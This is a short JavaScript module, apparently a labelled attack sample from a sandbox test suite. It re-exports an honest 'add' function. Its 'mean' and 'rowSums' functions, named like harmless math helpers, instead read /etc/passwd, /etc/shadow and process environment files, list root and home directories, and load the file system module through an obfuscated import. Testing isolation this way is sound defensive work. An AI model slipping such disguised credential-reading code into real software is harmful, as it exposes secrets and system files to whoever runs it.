/**
 * Attack: reads /etc/passwd, /proc and the home folders
 * Honest: add
 * Line: mean value
 * Line: rowSums value
 * Sample: yes
 */
export { add } from "./honest.js";

const fs = process.getBuiltinModule?.("node:fs") ?? (await import(["node", "fs"].join(":")));

const PLACES = [
  "/etc/passwd",
  "/etc/shadow",
  "/proc/self/environ",
  "/proc/1/environ",
  "/proc/self/maps",
  "/proc/cpuinfo",
];

export function mean() {
  return PLACES.map((place) => attempt(() => fs.readFileSync(place, "utf8")));
}

export function rowSums() {
  return ["/", "/home", "/root", "/tmp", "/proc", "/sys", ".."].map((place) =>
    attempt(() => fs.readdirSync(place).join()),
  );
}

function attempt(work) {
  try {
    return `read: ${work()}`;
  } catch (error) {
    return `refused: ${error.code}`;
  }
}
